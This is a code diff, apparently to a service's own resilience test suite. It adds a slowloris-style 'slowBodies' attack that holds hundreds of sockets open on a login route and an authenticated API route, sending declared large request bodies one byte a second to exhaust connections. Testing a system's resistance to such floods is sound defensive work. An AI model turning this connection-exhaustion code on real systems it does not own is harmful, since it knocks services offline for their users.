@@ -170,6 +170,41 @@ const pushStreams: Attack = {
     }),
 }
 
+const SLOW_BODY_BYTES = 100_000
+const BYTE_INTERVAL_MS = 1_000
+
+/** Sends the rest of a body one byte a second. */
+const trickle = async (socket: Socket): Promise<void> => {
+  while (!socket.destroyed) {
+    socket.write('A')
+    await delay(BYTE_INTERVAL_MS, undefined, { ref: false })
+  }
+}
+
+const slowBodies: Attack = {
+  name: '500 bodies that arrive one byte a second',
+  effects: ['opened'],
+  run: ({ frontDoor, attacker: { apiUrl, token } }, seconds) => {
+    const starts = [
+      [frontDoor, 'POST /api/auth/login', ''],
+      [apiUrl, 'POST /api/contact-data', `Authorization: Bearer ${token}\r\n`],
+    ] as const
+    const holds = starts.map(([base, route, authorization]) =>
+      hold(250, seconds, base, (socket) => {
+        socket.on('data', () => undefined)
+        socket.write(
+          `${route} HTTP/1.1\r\nHost: a\r\n${authorization}Content-Type: application/json\r\n` +
+            `Content-Length: ${SLOW_BODY_BYTES}\r\n\r\n{"value":"`,
+        )
+        return trickle(socket)
+      }),
+    )
+    return Promise.all(holds).then(([first = {}, second = {}]) =>
+      Object.fromEntries(Object.keys(first).map((name) => [name, (first[name] ?? 0) + (second[name] ?? 0)])),
+    )
+  },
+}
+
 export const connectionFloods: readonly Attack[] = [
   uploads,
   unreadResponses,
@@ -177,4 +212,5 @@ export const connectionFloods: readonly Attack[] = [
   halfRequests,
   packets,
   pushStreams,
+  slowBodies,
 ]
